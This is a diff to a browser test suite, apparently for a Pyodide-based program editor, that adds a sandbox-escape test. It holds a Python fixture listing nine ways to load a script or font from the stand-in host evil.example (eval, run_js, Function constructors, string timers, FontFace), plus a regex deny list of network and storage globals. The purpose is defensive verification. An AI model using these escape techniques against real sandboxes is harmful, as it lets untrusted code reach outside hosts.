@@ -248,6 +248,46 @@ draw("broken.svg", "<rect>")`,
   },
 );
 
+/** Tries to import a script, or to load a font, from another host. The first line names what is left of the browser. */
+const escapes = `import js, importlib
+load = "import('https://evil.example/a.js')"
+ways = [
+    lambda: js.eval(load),
+    lambda: importlib.import_module("pyodide.code").run_js(load),
+    lambda: js.Object.constructor.new("return " + load)(),
+    lambda: js.Reflect.getPrototypeOf(js.Object).constructor("return " + load)(),
+    lambda: js.Function.prototype.constructor.new("return " + load)(),
+    lambda: js.Function.new("return " + load)(),
+    lambda: js.setTimeout(load, 0),
+    lambda: js.setInterval(load, 0),
+    lambda: js.FontFace.new("a", "url(https://evil.example/a.woff2)").load(),
+]
+scope, names = js.globalThis, []
+while scope:
+    names += list(js.Object.getOwnPropertyNames(scope))
+    scope = js.Object.getPrototypeOf(scope)
+print(*names)
+for way in ways:
+    try:
+        print(way())
+    except Exception as error:
+        print(type(error).__name__)
+`;
+
+/** What may be left: names of the language, and few that can do nothing outside of the worker. */
+const ownNames = new Set([
+  ...Object.getOwnPropertyNames(Object.prototype),
+  // Node.js has them, among others.
+  ...Object.getOwnPropertyNames(globalThis).filter(
+    (name) =>
+      !/^(?:[a-z]*fetch|eval|navigator|process|BroadcastChannel|.*(?:Socket|Source|Storage|Response|Request))$/i.test(
+        name,
+      ),
+  ),
+  ...['Float16Array', 'Iterator', 'SuppressedError', 'DisposableStack', 'AsyncDisposableStack'],
+  ...['addEventListener', 'removeEventListener', 'dispatchEvent', 'self', 'PERSISTENT', 'TEMPORARY'],
+]);
+
 test('programs of a reader are saved after an edit, fail in words, print much, and are not on paper', async ({
   page,
 }) => {
@@ -325,6 +365,19 @@ test('programs of a reader are saved after an edit, fail in words, print much, a
       await expect.soft(output(first), name).toHaveText(printed, {useInnerText: true});
     });
   }
+
+  await test.step('a program finds no name and makes no function that reaches another host', async () => {
+    const asked = requestsOf(page);
+    await edit(save, escapes);
+    await press(first, 'Run');
+    await expect(status(first)).toHaveText(/^You changed a program/);
+    const [left = '', ...tried] = ((await output(first).textContent()) ?? '').trim().split('\n');
+    // Nothing of it sends, stores, or opens something.
+    expect(left.split(' ').filter((name) => !ownNames.has(name))).toEqual([]);
+    expect(tried).toHaveLength(9);
+    expect(tried.filter((one) => !one.endsWith('Error') && one !== 'JsException')).toEqual([]);
+    expect(asked).toEqual([]);
+  });
 
   await test.step('100 MB of output are cut, and the page stays usable', async () => {
     await edit(save, 'for n in range(1000):\n    print("x" * 100_000)\nprint("end")');
